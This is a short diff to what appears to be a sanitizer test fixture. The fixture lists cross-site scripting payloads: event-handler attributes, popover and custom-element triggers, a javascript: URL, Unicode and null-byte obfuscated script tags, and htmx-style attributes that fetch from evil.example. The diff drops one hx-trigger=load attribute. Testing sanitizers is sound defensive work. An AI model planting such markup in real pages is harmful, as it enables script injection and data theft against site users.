@@ -129,7 +129,7 @@ _MARKUP = """
 <x onclick=RUN contenteditable autofocus onfocus=RUN>x</x>
 <custom-element onconnected=RUN is=x>x</custom-element>
 <div popover id=z onbeforetoggle=RUN>x</div><button popovertarget=z>press</button>
-<div data-refresh-url="//evil.example/aa" data-refresh-every="1" data-do="send" hx-get="//evil.example/bb" hx-trigger=load>x</div>
+<div data-refresh-url="//evil.example/aa" data-refresh-every="1" data-do="send" hx-get="//evil.example/bb">x</div>
 <div data-undo data-notice-words data-url="javascript:RUN" data-events-url="//evil.example/cc">x</div>
 <p>\u202e<script>RUN</script>\u202c</p>
 <\u0000script>RUN</script>
